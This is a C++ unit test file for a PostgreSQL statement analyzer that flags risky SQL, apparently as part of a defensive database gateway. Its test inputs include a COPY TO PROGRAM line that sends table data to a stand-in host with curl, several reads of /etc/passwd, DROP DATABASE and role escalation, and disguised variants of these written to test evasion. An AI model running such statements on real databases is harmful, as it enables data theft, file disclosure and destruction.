// SQL analysis: what each statement really does, from PostgreSQL's own parser.
#include <gtest/gtest.h>

#include <algorithm>

#include "inspect/sql/analyzer.h"

namespace gatehouse::inspect::sql {
namespace {

std::vector<StatementFacts> facts(std::string_view sql) {
  auto r = analyze(sql);
  EXPECT_TRUE(r) << sql << ": " << (r ? "" : r.error().message);
  return r ? *r : std::vector<StatementFacts>{};
}

StatementFacts one(std::string_view sql) {
  auto all = facts(sql);
  EXPECT_EQ(all.size(), 1u) << sql;
  return all.empty() ? StatementFacts{} : all.front();
}

const Operation* find(const StatementFacts& f, Kind k) {
  auto it = std::find_if(f.operations.begin(), f.operations.end(), [&](const Operation& o) { return o.kind == k; });
  return it == f.operations.end() ? nullptr : &*it;
}

std::vector<std::string> relations(const StatementFacts& f, Kind k) {
  const auto* o = find(f, k);
  return o ? o->relations : std::vector<std::string>{"<no such operation>"};
}

using Names = std::vector<std::string>;

TEST(SqlAnalyzer, SelectReadsItsRelationsAndCallsItsFunctions) {
  const auto f = one("SELECT a, upper(b) FROM s.t JOIN u ON t.id = u.id WHERE x IN (SELECT y FROM hr.z)");
  ASSERT_EQ(f.operations.size(), 1u);
  EXPECT_EQ(f.operations[0].kind, Kind::kSelect);
  EXPECT_EQ(f.operations[0].relations, (Names{"s.t", "u", "hr.z"}));
  EXPECT_EQ(f.functions, Names{"upper"});
  EXPECT_TRUE(f.conditions.empty());
}

TEST(SqlAnalyzer, ASelectOfNoRelationIsStillARead) {
  const auto f = one("select 1");
  ASSERT_EQ(f.operations.size(), 1u);
  EXPECT_EQ(f.operations[0].kind, Kind::kSelect);
  EXPECT_TRUE(f.operations[0].relations.empty());
}

TEST(SqlAnalyzer, WritesNameTheirTargetAndTheirReadsApart) {
  const auto f = one("UPDATE acct SET bal = (SELECT sum(x) FROM hr.pay) FROM other o WHERE acct.id = o.id");
  EXPECT_EQ(relations(f, Kind::kUpdate), Names{"acct"});
  EXPECT_EQ(relations(f, Kind::kSelect), (Names{"hr.pay", "other"}));
  EXPECT_FALSE(f.has(Condition::kUpdateWithoutWhere));
  const auto ins = one("INSERT INTO t (a) VALUES (1)");
  ASSERT_EQ(ins.operations.size(), 1u) << "a VALUES list reads nothing";
  EXPECT_EQ(relations(ins, Kind::kInsert), Names{"t"});
}

TEST(SqlAnalyzer, UpdateOrDeleteWithoutARowFilter) {
  EXPECT_TRUE(one("DELETE FROM t").has(Condition::kDeleteWithoutWhere));
  EXPECT_TRUE(one("delete from t where true").has(Condition::kDeleteWithoutWhere));
  EXPECT_TRUE(one("DELETE FROM t WHERE 1 = 1").has(Condition::kDeleteWithoutWhere));
  EXPECT_TRUE(one("UPDATE t SET a = 1").has(Condition::kUpdateWithoutWhere));
  EXPECT_TRUE(one("UPDATE t SET a = 1 WHERE 'x' = 'x' OR now() > '2000-01-01'").has(Condition::kUpdateWithoutWhere));
  EXPECT_FALSE(one("DELETE FROM t WHERE id = 5").has(Condition::kDeleteWithoutWhere));
  EXPECT_FALSE(one("UPDATE t SET a = 1 WHERE CURRENT OF c").has(Condition::kUpdateWithoutWhere));
}

TEST(SqlAnalyzer, AWriteInACteIsAWrite) {
  const auto f = one("WITH d AS (DELETE FROM audit_log RETURNING *) SELECT count(*) FROM d");
  EXPECT_TRUE(f.performs(Kind::kDelete));
  EXPECT_TRUE(f.has(Condition::kDataModifyingCte));
  EXPECT_TRUE(f.has(Condition::kDeleteWithoutWhere));
  EXPECT_EQ(relations(f, Kind::kDelete), Names{"audit_log"});
  // d is the CTE, not a relation.
  EXPECT_TRUE(relations(f, Kind::kSelect).empty());
}

TEST(SqlAnalyzer, ACteNameHidesARelationOnlyWhereItIsInScope) {
  // Not recursive: inside its own body, `t` is the real table.
  const auto f = one("WITH t AS (SELECT * FROM t) SELECT * FROM t, (SELECT * FROM t) x");
  EXPECT_EQ(relations(f, Kind::kSelect), Names{"t"});
  const auto g = one("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, t");
  EXPECT_EQ(relations(g, Kind::kSelect), Names{"t"}) << "the outer t is a table";
  const auto h = one("WITH x AS (SELECT 1) SELECT * FROM public.x");
  EXPECT_EQ(relations(h, Kind::kSelect), Names{"public.x"}) << "a qualified name is never a CTE";
}

TEST(SqlAnalyzer, SelectIntoCreatesATable) {
  const auto f = one("SELECT * INTO copy_of_users FROM users");
  EXPECT_TRUE(f.has(Condition::kSelectInto));
  EXPECT_EQ(relations(f, Kind::kCreate), Names{"copy_of_users"});
  EXPECT_EQ(relations(f, Kind::kSelect), Names{"users"});
}

TEST(SqlAnalyzer, ExplainAnalyzeRunsTheStatementPlainExplainDoesNot) {
  const auto a = one("EXPLAIN ANALYZE DELETE FROM t");
  EXPECT_TRUE(a.performs(Kind::kExplain));
  EXPECT_TRUE(a.performs(Kind::kDelete));
  EXPECT_TRUE(a.has(Condition::kExplainAnalyze));
  EXPECT_TRUE(a.has(Condition::kDeleteWithoutWhere));
  const auto b = one("EXPLAIN (ANALYZE false) DELETE FROM t");
  EXPECT_FALSE(b.performs(Kind::kDelete));
  EXPECT_EQ(relations(b, Kind::kExplain), Names{"t"});
  const auto c = one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1");
  EXPECT_TRUE(c.performs(Kind::kUpdate));
  const auto d = one("EXPLAIN SELECT pg_read_file('/etc/passwd')");
  EXPECT_TRUE(d.functions.empty()) << "a plain EXPLAIN calls nothing";
}

TEST(SqlAnalyzer, CopyDirectionsProgramsAndFiles) {
  EXPECT_TRUE(one("COPY t TO PROGRAM 'curl -d @- evil'").has(Condition::kCopyToProgram));
  EXPECT_TRUE(one("COPY t FROM PROGRAM 'id'").has(Condition::kCopyFromProgram));
  EXPECT_TRUE(one("COPY t FROM '/etc/passwd'").has(Condition::kCopyFromFile));
  EXPECT_TRUE(one("COPY (SELECT * FROM hr.s) TO '/tmp/x'").has(Condition::kCopyToFile));
  const auto out = one("COPY (SELECT * FROM hr.s) TO STDOUT");
  EXPECT_TRUE(out.conditions.empty());
  EXPECT_EQ(relations(out, Kind::kSelect), Names{"hr.s"});
  EXPECT_EQ(relations(one("COPY public.t FROM STDIN"), Kind::kCopy), Names{"public.t"});
  EXPECT_EQ(relations(one("COPY public.t FROM STDIN"), Kind::kInsert), Names{"public.t"}) << "it writes the table";
  EXPECT_EQ(relations(one("COPY hr.pay TO STDOUT"), Kind::kSelect), Names{"hr.pay"}) << "it reads the table";
}

TEST(SqlAnalyzer, DdlWithItsObject) {
  const auto drop = one("DROP TABLE a.b, c CASCADE");
  ASSERT_TRUE(find(drop, Kind::kDrop));
  EXPECT_EQ(find(drop, Kind::kDrop)->object, "table");
  EXPECT_EQ(relations(drop, Kind::kDrop), (Names{"a.b", "c"}));
  EXPECT_EQ(find(one("DROP DATABASE prod"), Kind::kDrop)->object, "database");
  EXPECT_TRUE(one("DROP DATABASE IF EXISTS prod").has(Condition::kDropDatabase));
  EXPECT_EQ(find(one("drop schema s cascade"), Kind::kDrop)->object, "schema");
  EXPECT_EQ(find(one("DROP ROLE bob"), Kind::kDrop)->object, "role");
  EXPECT_EQ(find(one("DROP FUNCTION f(int)"), Kind::kDrop)->object, "function");
  EXPECT_EQ(find(one("CREATE TABLE x (id int DEFAULT nextval('s'))"), Kind::kCreate)->object, "table");
  EXPECT_EQ(one("CREATE TABLE x (id int DEFAULT nextval('s'))").functions, Names{"nextval"});
  EXPECT_EQ(find(one("CREATE VIEW v AS SELECT * FROM hr.s"), Kind::kCreate)->object, "view");
  EXPECT_EQ(relations(one("CREATE VIEW v AS SELECT * FROM hr.s"), Kind::kSelect), Names{"hr.s"});
  EXPECT_EQ(find(one("CREATE INDEX ON t (a)"), Kind::kCreate)->object, "index");
  EXPECT_EQ(find(one("CREATE EXTENSION dblink"), Kind::kCreate)->object, "extension");
  EXPECT_EQ(find(one("CREATE MATERIALIZED VIEW m AS SELECT 1"), Kind::kCreate)->object, "materialized view");
  EXPECT_EQ(find(one("ALTER TABLE t ADD COLUMN c int"), Kind::kAlter)->object, "table");
  EXPECT_EQ(relations(one("ALTER TABLE hr.t ADD COLUMN c int"), Kind::kAlter), Names{"hr.t"});
  EXPECT_EQ(find(one("ALTER ROLE bob SUPERUSER"), Kind::kAlter)->object, "role");
  EXPECT_TRUE(one("ALTER SYSTEM SET wal_level = minimal").has(Condition::kAlterSystem));
  EXPECT_EQ(find(one("TRUNCATE a, b.c"), Kind::kTruncate)->relations, (Names{"a", "b.c"}));
}

TEST(SqlAnalyzer, ProceduralCode) {
  EXPECT_TRUE(one("DO $$ BEGIN PERFORM 1; END $$").performs(Kind::kProcedural));
  const auto f = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$");
  EXPECT_TRUE(f.performs(Kind::kProcedural));
  EXPECT_EQ(find(f, Kind::kCreate)->object, "function");
  EXPECT_EQ(find(one("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$"), Kind::kCreate)->object,
            "procedure");
  const auto call = one("CALL admin.p(pg_read_file('x'))");
  EXPECT_TRUE(call.performs(Kind::kCall));
  EXPECT_TRUE(call.performs(Kind::kProcedural)) << "a procedure is procedural code";
  EXPECT_EQ(call.functions, (Names{"admin.p", "pg_read_file"}));
}

TEST(SqlAnalyzer, SessionAndRoleSettings) {
  EXPECT_TRUE(one("SET ROLE admin").performs(Kind::kSetRole));
  EXPECT_TRUE(one("set local role admin").performs(Kind::kSetRole));
  EXPECT_TRUE(one("SET SESSION AUTHORIZATION postgres").performs(Kind::kSetRole));
  EXPECT_FALSE(one("RESET ROLE").performs(Kind::kSetRole)) << "back to the login role";
  EXPECT_TRUE(one("RESET ROLE").performs(Kind::kReset));
  EXPECT_FALSE(one("RESET ALL").performs(Kind::kSetRole));
  EXPECT_TRUE(one("SET search_path = hr").performs(Kind::kSet));
  EXPECT_FALSE(one("SET search_path = hr").performs(Kind::kSetRole));
  EXPECT_TRUE(one("SHOW work_mem").performs(Kind::kShow));
  EXPECT_TRUE(one("BEGIN").performs(Kind::kTransaction));
  EXPECT_TRUE(one("select set_config('role', 'admin', false)").performs(Kind::kSelect));
  EXPECT_EQ(one("select set_config('role', 'admin', false)").functions, Names{"set_config"});
}

TEST(SqlAnalyzer, SearchPathChanges) {
  const auto set = one("SET search_path = hr, \"My Schema\", '$user'");
  EXPECT_EQ(set.search_path_change, SearchPathChange::kSet);
  EXPECT_EQ(set.search_path, (Names{"hr", "My Schema", "$user"}));
  EXPECT_EQ(one("set search_path to public").search_path, Names{"public"});
  EXPECT_EQ(one("SET LOCAL search_path = hr").search_path_change, SearchPathChange::kUnknown);
  EXPECT_EQ(one("RESET search_path").search_path_change, SearchPathChange::kReset);
  EXPECT_EQ(one("SET search_path TO DEFAULT").search_path_change, SearchPathChange::kReset);
  EXPECT_EQ(one("RESET ALL").search_path_change, SearchPathChange::kReset);
  EXPECT_EQ(one("DISCARD ALL").search_path_change, SearchPathChange::kReset);
  EXPECT_EQ(one("SELECT set_config('search_path', 'hr', false)").search_path_change, SearchPathChange::kUnknown);
  EXPECT_EQ(one("SELECT pg_catalog.set_config($1, $2, false)").search_path_change, SearchPathChange::kUnknown);
  EXPECT_EQ(one("SET work_mem = '1MB'").search_path_change, SearchPathChange::kNone);
  EXPECT_EQ(one("SELECT 1").search_path_change, SearchPathChange::kNone);
}

TEST(SqlAnalyzer, PreparedStatements) {
  const auto p = one("PREPARE wipe (int) AS DELETE FROM t WHERE id = $1");
  EXPECT_TRUE(p.performs(Kind::kPrepare));
  EXPECT_TRUE(p.performs(Kind::kDelete)) << "judged at PREPARE for what it will do";
  EXPECT_EQ(p.prepared_name, "wipe");
  const auto e = one("EXECUTE wipe(lo_import('/etc/passwd'))");
  EXPECT_TRUE(e.performs(Kind::kExecute));
  EXPECT_EQ(e.prepared_name, "wipe");
  EXPECT_EQ(e.functions, Names{"lo_import"});
  EXPECT_EQ(one("DEALLOCATE wipe").prepared_name, "wipe");
  EXPECT_FALSE(one("DEALLOCATE wipe").forgets_all_prepared);
  EXPECT_TRUE(one("DEALLOCATE ALL").forgets_all_prepared);
  EXPECT_TRUE(one("DISCARD ALL").forgets_all_prepared);
}

TEST(SqlAnalyzer, EvasionsThatTheParserSeesThrough) {
  // Case, comments, quoting, Unicode escapes, dollar quoting: all resolve to the same facts.
  EXPECT_EQ(one("/* x */ dRoP /* y */ TaBlE -- z\n t").operations, one("DROP TABLE t").operations);
  EXPECT_EQ(one("SELECT PG_READ_FILE('x')").functions, Names{"pg_read_file"});
  EXPECT_EQ(one("SELECT pg_catalog.pg_read_file('x')").functions, Names{"pg_catalog.pg_read_file"});
  EXPECT_EQ(one(R"(SELECT "pg_read_file"('x'))").functions, Names{"pg_read_file"});
  EXPECT_EQ(one(R"(SELECT U&"\0070g_read_file"('x'))").functions, Names{"pg_read_file"});
  EXPECT_EQ(one("SELECT $q$DROP TABLE t$q$").operations.size(), 1u) << "a string is not a statement";
  EXPECT_EQ(one("SELECT * FROM pg_read_file('x') AS f").functions, Names{"pg_read_file"});
  EXPECT_EQ(one("SELECT (SELECT lo_export(1, '/tmp/x'))::text").functions, Names{"lo_export"});
}

TEST(SqlAnalyzer, MultiStatementStringsAreSplit) {
  const auto all = facts("SELECT 1; DROP TABLE t ;\n  DELETE FROM u");
  ASSERT_EQ(all.size(), 3u);
  EXPECT_EQ(all[0].text, "SELECT 1");
  EXPECT_EQ(all[1].text, "DROP TABLE t");
  EXPECT_EQ(all[2].text, "DELETE FROM u");
  EXPECT_TRUE(all[2].has(Condition::kDeleteWithoutWhere));
  EXPECT_TRUE(facts("").empty());
  EXPECT_TRUE(facts(" -- only a comment\n").empty());
}

TEST(SqlAnalyzer, WhatCannotBeParsedIsAnErrorWithTheParsersMessage) {
  auto r = analyze("SELEC 1");
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("syntax error"), std::string::npos) << r.error().message;
  EXPECT_FALSE(analyze(std::string_view("SELECT 1\0; DROP TABLE t", 24)));
}

TEST(SqlAnalyzer, DeeplyNestedSubqueriesAreAnalyzed) {
  // The parse tree of a few nested subqueries is deeper than Boost.JSON's default limit of 32.
  std::string sql = "SELECT 1";
  for (int i = 0; i < 12; ++i) sql = "SELECT (" + sql + ")";
  auto facts = analyze(sql);
  ASSERT_TRUE(facts) << facts.error().message;
  EXPECT_TRUE(facts->front().performs(Kind::kSelect));
}

}  // namespace
}  // namespace gatehouse::inspect::sql
